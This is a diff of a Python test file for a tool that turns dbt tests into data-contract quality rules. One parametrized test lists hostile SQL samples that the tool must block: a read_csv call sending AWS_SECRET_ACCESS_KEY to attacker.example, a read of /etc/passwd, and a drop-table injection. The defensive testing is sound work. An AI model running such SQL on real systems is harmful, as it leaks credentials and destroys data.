@@ -190,7 +190,9 @@ def test_relationships_expression_and_range_rules_are_runnable_sql() -> None:
     )
 
     document = contract_of("analytics", "model.analytics.sales_by_region_and_category.v1")
-    [expression] = [r for r in document["schema"][0]["quality"] if r["type"] == "sql"]
+    [expression] = [
+        r for r in document["schema"][0]["quality"] if r["name"] == "expression_is_true"
+    ]
     assert expression["query"] == (
         "select count(*) from {model} where not "
         "(on_time_order_count <= delivered_order_count and delivered_order_count <= order_count)"
@@ -473,16 +475,20 @@ def test_a_relationship_to_a_model_that_is_no_product_is_mesh_only_and_says_why(
     assert (rule["type"], rule["engine"]) == ("custom", "dbt")
     assert custom(rule)["meshOnly"] is True
     [reason] = [p for p in rule["customProperties"] if p["property"] == "meshOnly"]
-    assert "ODCS has no rule type" in reason["description"]
+    assert "a relationship to a model that is not a product version" in reason["description"]
 
 
-def test_a_unique_combination_is_a_library_rule_over_its_columns() -> None:
+def test_a_unique_combination_counts_null_keys_as_a_value_as_its_macro_does() -> None:
+    """A library duplicateValues leaves rows with a null key out; the macro groups them."""
     [rule] = [
         r for r in contract_of("analytics", SALES)["schema"][0]["quality"]
         if r["name"] == "unique_combination"
     ]  # fmt: skip
-    assert (rule["type"], rule["metric"], rule["mustBe"]) == ("library", "duplicateValues", 0)
-    assert rule["arguments"] == {"properties": ["region", "category_name"]}
+    assert rule["query"] == (
+        "select count(*) from (select region, category_name from {model} "
+        "group by region, category_name having count(*) > 1)"
+    )
+    assert rule["mustBe"] == 0
 
 
 def test_a_test_with_a_where_is_a_sql_rule_over_the_rows_it_tests() -> None:
@@ -519,3 +525,91 @@ def test_the_table_is_named_as_it_is_stored_and_every_path_is_relative_to_the_co
     assert servers["mesh"]["database"] == "../../../orders.duckdb"
     assert servers["parquet"]["path"] == "./orders_v2.parquet"
     assert "datacontract test contract.odcs.yaml" in document["description"]["usage"]
+
+
+@pytest.mark.parametrize(
+    ("where", "why"),
+    [
+        (
+            "exists (select 1 from read_csv('https://attacker.example/${AWS_SECRET_ACCESS_KEY}'))",
+            "`${`",
+        ),
+        ("exists (select 1 from read_csv('https://attacker.example/x.csv'))", "READ_CSV"),
+        ("region in (select name from duckdb_settings())", "DUCKDB_SETTINGS()"),
+        ("region in (select region from '/etc/passwd')", "not only the product"),
+        ("region <> '{table}'", "placeholder other than {model}"),
+        ("1 = 1); drop table x; select (1", "not a single SELECT"),
+    ],
+)
+def test_sql_that_reads_more_than_the_product_never_reaches_a_consumers_tool(
+    where: str, why: str
+) -> None:
+    """The SQL a domain writes (here a `where`) runs on consumers' machines through their
+    tool: a rule that would read their files, network or environment is mesh-only."""
+
+    def change(m: Raw) -> None:
+        m["nodes"][REGION_NOT_NULL]["config"]["where"] = where
+
+    [rule] = columns(contract_of("analytics", SALES, change))["region"]["quality"]
+    assert (rule["type"], "query" in rule) == ("custom", False)
+    [reason] = [p for p in rule["customProperties"] if p["property"] == "meshOnly"]
+    assert "its SQL is not handed to consumers' tools" in reason["description"]
+    assert why in reason["description"]
+
+
+def test_the_rules_own_sql_passes_the_check() -> None:
+    from mesh.governance.quality_rules import unsafe
+
+    for domain, unique_id in PRODUCT_VERSIONS:
+        document = contract_of(domain, unique_id)
+        [table] = document["schema"]
+        rules = [*table.get("quality", [])]
+        rules += [rule for column in table["properties"] for rule in column.get("quality", [])]
+        for rule in rules:
+            assert rule["type"] != "custom", (unique_id, rule)
+            if rule["type"] == "sql":
+                assert unsafe(rule["query"]) is None, rule["query"]
+
+
+def test_a_test_with_a_threshold_of_its_own_is_mesh_only() -> None:
+    def change(m: Raw) -> None:
+        m["nodes"][REGION_NOT_NULL]["config"]["error_if"] = ">10"
+
+    found = columns(contract_of("analytics", SALES, change))["region"]
+    [rule] = found["quality"]
+    assert rule["type"] == "custom"
+    assert "its error_if is not dbt's default" in str(rule["customProperties"])
+    # Nor is the column checked as required on every row: dbt lets ten nulls through.
+    key = found.get("primaryKey")  # region is a key column: required by its constraint
+    assert found["required"] is bool(key)
+
+
+def test_a_test_of_another_package_is_not_read_as_the_mesh_s_own() -> None:
+    """dbt_utils.expression_is_true on a column renders `not (column expression)`."""
+
+    def change(m: Raw) -> None:
+        test = m["nodes"]["test.orders.not_null_orders_v2_customer_id.287a720973"]
+        test["test_metadata"] = {
+            "name": "expression_is_true",
+            "namespace": "dbt_utils",
+            "kwargs": {"column_name": "customer_id", "expression": ">= 0"},
+        }
+
+    [rule] = columns(contract_of("orders", "model.orders.orders.v2", change))["customer_id"][
+        "quality"
+    ]
+    assert rule["type"] == "custom"
+    assert rule["implementation"]["test"] == "dbt_utils.expression_is_true"
+
+
+def test_accepted_values_without_quotes_are_written_as_dbt_writes_them() -> None:
+    def change(m: Raw) -> None:
+        for node in m["nodes"].values():
+            if (node.get("test_metadata") or {}).get("name") == "accepted_values":
+                node["test_metadata"]["kwargs"]["quote"] = False
+                node["test_metadata"]["kwargs"]["values"] = ["'web'", "'app'", "'marketplace'"]
+
+    [rule] = columns(contract_of("orders", "model.orders.orders.v2", change))["channel"]["quality"]
+    assert rule["query"] == (
+        "select count(*) from {model} where channel not in ('web', 'app', 'marketplace')"
+    )
